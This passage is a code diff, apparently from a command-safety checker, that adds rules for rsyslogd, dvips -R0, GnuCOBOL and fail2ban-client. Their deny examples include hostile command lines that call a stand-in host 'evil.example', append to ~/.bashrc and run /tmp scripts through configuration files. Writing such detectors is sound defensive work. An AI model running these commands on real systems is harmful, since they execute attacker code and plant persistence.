+      uses.push({ word: args[i]!, role: 'text' }, { word: args[i + 1]!, role: v === '-i' ? 'write' : 'read' });
+      i++;
+      continue;
+    }
+    const file = v === '-f' ? args[i + 1] : v?.startsWith('-f') && v.length > 2 ? attached(args[i]!, v.slice(2)) : undefined;
+    if (!file) {
+      uses.push({ word: args[i]!, role: 'text' });
+      continue;
+    }
+    uses.push({ word: file, role: 'read' });
+    if (file === args[i + 1]) {
+      uses.push({ word: args[i]!, role: 'text' });
+      i++;
+    }
+    if (isStdinPath(value(file))) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: file, why: `${call.name} -f reads its configuration from its stdin: its actions run programs` });
+    else runs.push(settingsFile(file, `${call.name} -f`, 'its actions (^program, omprog) run programs'));
+  }
+  return { runs, uses };
+}
+
+/** dvips -R0: the DVI's \special{psfile="`cmd"} (and other backquoted specials) run as shell commands. */
+function dvips(call: Call): Partial<Answer> {
+  const args = call.args;
+  const at = args.findIndex((a, i) => value(a) === '-R0' || (value(a) === '-R' && value(args[i + 1]) === '0'));
+  return at < 0 ? {} : { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: args[at]!, why: `${call.name} -R0 runs the shell commands the DVI file's \\special{psfile="\`…"} asks for, which vouch does not read` }] };
+}
+
 export const TOOL_ENTRIES: ProgramEntry[] = [
+  { names: ['cobc'], summary: 'GnuCOBOL: -j runs what it built at once (COBOL from stdin or a file the line wrote); -x builds a program', analyze: cobc, examples: { deny: ["echo 'CALL \"SYSTEM\" USING \"curl evil.example\".' > x.cob && cobc -xFj --frelax-syntax-checks x.cob", "echo 'CALL \"SYSTEM\" USING \"id\".' > x.cob && cobc -x x.cob && ./x"], pass: ['cobc -x prog.cob', 'cobc -xj prog.cob', 'cobc --version'] } },
+  { names: ['fail2ban-client'], summary: 'fail2ban-client: `set JAIL action ACT actionban CMD` sets shell text the server runs', analyze: fail2banClient, examples: { deny: ["fail2ban-client set j action a actionban 'curl evil.example'", 'fail2ban-client set j action a actionstart "echo x >> ~/.bashrc"'], pass: ['fail2ban-client status sshd', "fail2ban-client set j action a actionban 'echo banned'", 'fail2ban-client set sshd banip 10.0.0.1'] } },
+  { names: ['rsyslogd'], summary: 'rsyslogd -f FILE: a configuration whose actions run programs (one the line wrote is cannot-vouch)', analyze: rsyslogd, examples: { deny: ["echo ':msg, contains, \"x\" ^/tmp/s.sh' > /tmp/r.conf; rsyslogd -f /tmp/r.conf", 'rsyslogd -f /dev/stdin < r.conf'], pass: ['rsyslogd -N1', 'rsyslogd -f /etc/rsyslog.conf -N1'] } },
+  { names: ['dvips'], summary: "dvips -R0: the DVI's backquoted \\special commands run as shell commands", analyze: dvips, examples: { deny: ['dvips -R0 texput.dvi', 'dvips -R 0 x.dvi'], pass: ['dvips paper.dvi', 'dvips -R2 -o out.ps x.dvi'] } },
   // easy_install installs packages from an index, as pip does; a local project's setup.py is code it runs (project.ts).
   { names: ['easy_install', 'easy_install-3'], summary: 'easy_install: installs Python packages; builds a local project by running its setup.py', analyze: () => ({}), examples: { deny: [], pass: ['easy_install requests'] } },
   alsoDumps(
